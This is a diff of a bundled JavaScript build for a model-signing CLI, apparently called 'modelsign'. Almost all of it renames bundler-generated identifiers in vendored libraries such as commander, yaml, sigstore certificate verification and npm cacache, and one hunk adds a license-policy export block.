@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path20 = __require("node:path");
+    var path21 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path20.resolve(baseDir, baseName);
+          const localBin = path21.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path20.extname(baseName))) return void 0;
+          if (sourceExt.includes(path21.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path20.resolve(
-            path20.dirname(resolvedScriptPath),
+          executableDir = path21.resolve(
+            path21.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path20.basename(
+            const legacyName = path21.basename(
               this._scriptPath,
-              path20.extname(this._scriptPath)
+              path21.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path20.extname(executableFile));
+        launchWithNode = sourceExt.includes(path21.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path20.basename(filename, path20.extname(filename));
+        this._name = path21.basename(filename, path21.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path21) {
-        if (path21 === void 0) return this._executableDir;
-        this._executableDir = path21;
+      executableDir(path22) {
+        if (path22 === void 0) return this._executableDir;
+        this._executableDir = path22;
         return this;
       }
       /**
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path20) {
-  return new ModelsignError(code, message, path20 === void 0 ? { kind: "reject" } : { kind: "reject", path: path20 });
+function reject(code, message, path21) {
+  return new ModelsignError(code, message, path21 === void 0 ? { kind: "reject" } : { kind: "reject", path: path21 });
 }
-function usage(code, message, path20) {
-  return new ModelsignError(code, message, path20 === void 0 ? { kind: "usage" } : { kind: "usage", path: path20 });
+function usage(code, message, path21) {
+  return new ModelsignError(code, message, path21 === void 0 ? { kind: "usage" } : { kind: "usage", path: path21 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -7983,17 +7983,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path20) {
-      const ctrl = callVisitor(key, node, visitor, path20);
+    function visit_(key, node, visitor, path21) {
+      const ctrl = callVisitor(key, node, visitor, path21);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path20, ctrl);
-        return visit_(key, ctrl, visitor, path20);
+        replaceNode(key, path21, ctrl);
+        return visit_(key, ctrl, visitor, path21);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path20 = Object.freeze(path20.concat(node));
+          path21 = Object.freeze(path21.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path20);
+            const ci2 = visit_(i, node.items[i], visitor, path21);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -8004,13 +8004,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path20 = Object.freeze(path20.concat(node));
-          const ck = visit_("key", node.key, visitor, path20);
+          path21 = Object.freeze(path21.concat(node));
+          const ck = visit_("key", node.key, visitor, path21);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path20);
+          const cv = visit_("value", node.value, visitor, path21);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -8031,17 +8031,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path20) {
-      const ctrl = await callVisitor(key, node, visitor, path20);
+    async function visitAsync_(key, node, visitor, path21) {
+      const ctrl = await callVisitor(key, node, visitor, path21);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path20, ctrl);
-        return visitAsync_(key, ctrl, visitor, path20);
+        replaceNode(key, path21, ctrl);
+        return visitAsync_(key, ctrl, visitor, path21);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path20 = Object.freeze(path20.concat(node));
+          path21 = Object.freeze(path21.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path20);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path21);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -8052,13 +8052,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path20 = Object.freeze(path20.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path20);
+          path21 = Object.freeze(path21.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path21);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path20);
+          const cv = await visitAsync_("value", node.value, visitor, path21);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -8085,23 +8085,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path20) {
+    function callVisitor(key, node, visitor, path21) {
       if (typeof visitor === "function")
-        return visitor(key, node, path20);
+        return visitor(key, node, path21);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path20);
+        return visitor.Map?.(key, node, path21);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path20);
+        return visitor.Seq?.(key, node, path21);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path20);
+        return visitor.Pair?.(key, node, path21);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path20);
+        return visitor.Scalar?.(key, node, path21);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path20);
+        return visitor.Alias?.(key, node, path21);
       return void 0;
     }
-    function replaceNode(key, path20, node) {
-      const parent = path20[path20.length - 1];
+    function replaceNode(key, path21, node) {
+      const parent = path21[path21.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8713,10 +8713,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path20, value) {
+    function collectionFromPath(schema, path21, value) {
       let v2 = value;
-      for (let i = path20.length - 1; i >= 0; --i) {
-        const k2 = path20[i];
+      for (let i = path21.length - 1; i >= 0; --i) {
+        const k2 = path21[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8735,7 +8735,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path20) => path20 == null || typeof path20 === "object" && !!path20[Symbol.iterator]().next().done;
+    var isEmptyPath = (path21) => path21 == null || typeof path21 === "object" && !!path21[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8765,11 +8765,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path20, value) {
-        if (isEmptyPath(path20))
+      addIn(path21, value) {
+        if (isEmptyPath(path21))
           this.add(value);
         else {
-          const [key, ...rest] = path20;
+          const [key, ...rest] = path21;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8783,8 +8783,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path20) {
-        const [key, ...rest] = path20;
+      deleteIn(path21) {
+        const [key, ...rest] = path21;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8798,8 +8798,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path20, keepScalar) {
-        const [key, ...rest] = path20;
+      getIn(path21, keepScalar) {
+        const [key, ...rest] = path21;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8817,8 +8817,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path20) {
-        const [key, ...rest] = path20;
+      hasIn(path21) {
+        const [key, ...rest] = path21;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8828,8 +8828,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path20, value) {
-        const [key, ...rest] = path20;
+      setIn(path21, value) {
+        const [key, ...rest] = path21;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -11344,9 +11344,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path20, value) {
+      addIn(path21, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path20, value);
+          this.contents.addIn(path21, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -11421,14 +11421,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path20) {
-        if (Collection.isEmptyPath(path20)) {
+      deleteIn(path21) {
+        if (Collection.isEmptyPath(path21)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path20) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path21) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -11443,10 +11443,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path20, keepScalar) {
-        if (Collection.isEmptyPath(path20))
+      getIn(path21, keepScalar) {
+        if (Collection.isEmptyPath(path21))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path20, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path21, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -11457,10 +11457,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path20) {
-        if (Collection.isEmptyPath(path20))
+      hasIn(path21) {
+        if (Collection.isEmptyPath(path21))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path20) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path21) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -11477,13 +11477,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path20, value) {
-        if (Collection.isEmptyPath(path20)) {
+      setIn(path21, value) {
+        if (Collection.isEmptyPath(path21)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path20), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path21), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path20, value);
+          this.contents.setIn(path21, value);
         }
       }
       /**
@@ -13444,9 +13444,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path20) => {
+    visit.itemAtPath = (cst, path21) => {
       let item = cst;
-      for (const [field, index] of path20) {
+      for (const [field, index] of path21) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -13455,23 +13455,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path20) => {
-      const parent = visit.itemAtPath(cst, path20.slice(0, -1));
-      const field = path20[path20.length - 1][0];
+    visit.parentCollection = (cst, path21) => {
+      const parent = visit.itemAtPath(cst, path21.slice(0, -1));
+      const field = path21[path21.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path20, item, visitor) {
-      let ctrl = visitor(item, path20);
+    function _visit(path21, item, visitor) {
+      let ctrl = visitor(item, path21);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path20.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path21.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -13482,10 +13482,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path20);
+            ctrl = ctrl(item, path21);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path20) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path21) : ctrl;
     }
     exports.visit = visit;
   }
@@ -17280,6 +17280,13 @@ var init_hf_licenses = __esm({
 });
 
 // src/policy/licenses.ts
+var licenses_exports = {};
+__export(licenses_exports, {
+  MAX_LICENSE_LENGTH: () => MAX_LICENSE_LENGTH,
+  displayId: () => displayId,
+  evaluateLicense: () => evaluateLicense,
+  normalizeLicense: () => normalizeLicense
+});
 import { createRequire as createRequire2 } from "node:module";
 function refId(id2) {
   return `LicenseRef-${id2.toLowerCase().replace(/\+/g, "plus")}`;
@@ -26522,15 +26529,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path21) => path21.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path22) => path22.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path20 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path20].slice(0, -1);
+        const path21 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path21].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -26589,30 +26596,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path20) {
-        if (path20.length < 1) {
+      checkPath(path21) {
+        if (path21.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path20.slice(1).every((cert) => cert.isCA);
+        const validCAs = path21.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path20.length - 2; i >= 0; i--) {
-          if (!path20[i].issuer.equals(path20[i + 1].subject)) {
+        for (let i = path21.length - 2; i >= 0; i--) {
+          if (!path21[i].issuer.equals(path21[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path20.length; i++) {
-          const cert = path20[i];
+        for (let i = 0; i < path21.length; i++) {
+          const cert = path21[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -26716,13 +26723,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path20 = [];
+      let path21 = [];
       timestamps.forEach((timestamp) => {
-        path20 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path21 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path20[0], path20[1], trustMaterial.ctlogs),
-        signer: getSigner(path20[0])
+        scts: (0, sct_1.verifySCTs)(path21[0], path21[1], trustMaterial.ctlogs),
+        signer: getSigner(path21[0])
       };
     }
     function getSigner(cert) {
@@ -28288,7 +28295,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path20, data) {
+      static fromJSON(path21, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
@@ -28298,7 +28305,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path20,
+          path: path21,
           hashes,
           unrecognizedFields: rest
         });
@@ -29873,11 +29880,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path20 = {
+    var path21 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path20.win32.sep : path20.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path21.win32.sep : path21.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -31105,9 +31112,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path20, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path21, metadata]) => ({
         ...acc,
-        [path20]: metadata.toJSON()
+        [path21]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -31116,9 +31123,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path20, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path21, metadata]) => ({
             ...acc,
-            [path20]: file_1.MetaFile.fromJSON(metadata)
+            [path21]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -31300,9 +31307,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path20, target]) => ({
+      return Object.entries(targets).reduce((acc, [path21, target]) => ({
         ...acc,
-        [path20]: target.toJSON()
+        [path21]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -31311,9 +31318,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path20, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path21, target]) => ({
             ...acc,
-            [path20]: file_1.TargetFile.fromJSON(path20, target)
+            [path21]: file_1.TargetFile.fromJSON(path21, target)
           }), {});
         }
       }
@@ -42020,7 +42027,7 @@ var require_polyfill = __commonJS({
       chmod: chmod2,
       copyFile: copyFile2,
       lstat: lstat5,
-      mkdir: mkdir5,
+      mkdir: mkdir6,
       readdir,
       readlink,
       stat: stat8,
@@ -42057,8 +42064,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path20 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath2(fileURLOrPath) : fileURLOrPath;
-      return path20;
+      const path21 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath2(fileURLOrPath) : fileURLOrPath;
+      return path21;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -42132,7 +42139,7 @@ var require_polyfill = __commonJS({
       if (dirExists) {
         return getStatsForCopy(destStat, src, dest, opts);
       }
-      await mkdir5(destParent, { recursive: true });
+      await mkdir6(destParent, { recursive: true });
       return getStatsForCopy(destStat, src, dest, opts);
     }
     function pathExists(dest) {
@@ -42167,7 +42174,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path20) => resolve(path20).split(sep).filter(Boolean);
+    var normalizePathToArray = (path21) => resolve(path21).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -42280,7 +42287,7 @@ var require_polyfill = __commonJS({
       return copyDir(src, dest, opts);
     }
     async function mkDirAndCopy(srcMode, src, dest, opts) {
-      await mkdir5(dest);
+      await mkdir6(dest);
       await copyDir(src, dest, opts);
       return setDestMode(dest, srcMode);
     }
@@ -42364,12 +42371,12 @@ var require_with_temp_dir = __commonJS({
   "node_modules/@npmcli/fs/lib/with-temp-dir.js"(exports, module) {
     var { join: join2, sep } = __require("path");
     var getOptions = require_get_options();
-    var { mkdir: mkdir5, mkdtemp: mkdtemp3, rm: rm5 } = __require("fs/promises");
+    var { mkdir: mkdir6, mkdtemp: mkdtemp3, rm: rm5 } = __require("fs/promises");
     var withTempDir = async (root, fn, opts) => {
       const options = getOptions(opts, {
         copy: ["tmpPrefix"]
       });
-      await mkdir5(root, { recursive: true });
+      await mkdir6(root, { recursive: true });
       const target = await mkdtemp3(join2(`${root}${sep}`, options.tmpPrefix || ""));
       let err;
       let result;
@@ -42418,9 +42425,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path20) => {
+    var pathExists = async (path21) => {
       try {
-        await fs2.access(path20);
+        await fs2.access(path21);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -42508,17 +42515,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path20 = __require("path");
+    var path21 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path20.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path21.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path20.join(cache, "tmp");
+      const tmpDir = path21.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path20.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path21.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -42527,7 +42534,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path20.join(cache, "tmp"), cb, opts);
+      return withTempDir(path21.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -42636,12 +42643,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path20 = __require("path");
+    var path21 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path20.join(
+      return path21.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -42649,7 +42656,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path20.join(cache, `content-v${contentVer}`);
+      return path21.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -43113,14 +43120,14 @@ var require_entry_index = __commonJS({
     var crypto = __require("crypto");
     var {
       appendFile: appendFile2,
-      mkdir: mkdir5,
+      mkdir: mkdir6,
       readFile: readFile4,
       readdir,
       rm: rm5,
       writeFile: writeFile7
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path20 = __require("path");
+    var path21 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -43157,7 +43164,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir5(path20.dirname(target), { recursive: true });
+        await mkdir6(path21.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -43170,7 +43177,7 @@ var require_entry_index = __commonJS({
       };
       const write = async (tmp2) => {
         await writeFile7(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir5(path20.dirname(bucket), { recursive: true });
+        await mkdir6(path21.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -43194,7 +43201,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir5(path20.dirname(bucket), { recursive: true });
+        await mkdir6(path21.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -43244,17 +43251,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path20.join(indexDir, bucket);
+            const bucketPath2 = path21.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path20.join(bucketPath2, subbucket);
+                const subbucketPath = path21.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path20.join(subbucketPath, entry);
+                    const entryPath = path21.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -43323,13 +43330,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path20.join(cache, `index-v${indexV}`);
+      return path21.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path20.join.apply(
-        path20,
+      return path21.join.apply(
+        path21,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -44075,17 +44082,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path20, opt) {
+      constructor(path21, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path20 !== "string") {
+        if (typeof path21 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path20;
+        this[_path] = path21;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -44231,7 +44238,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path20, opt) {
+      constructor(path21, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -44241,7 +44248,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path20;
+        this[_path] = path21;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -44549,11 +44556,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path20) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path20})`);
+    function integrityError(sri, path21) {
+      const err = new Error(`Integrity verification failed for ${sri} (${path21})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path20;
+      err.path = path21;
       return err;
     }
   }
@@ -44721,7 +44728,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path20 = __require("path");
+    var path21 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
@@ -44841,7 +44848,7 @@ var require_write = __commonJS({
     }
     async function makeTmp(cache, opts) {
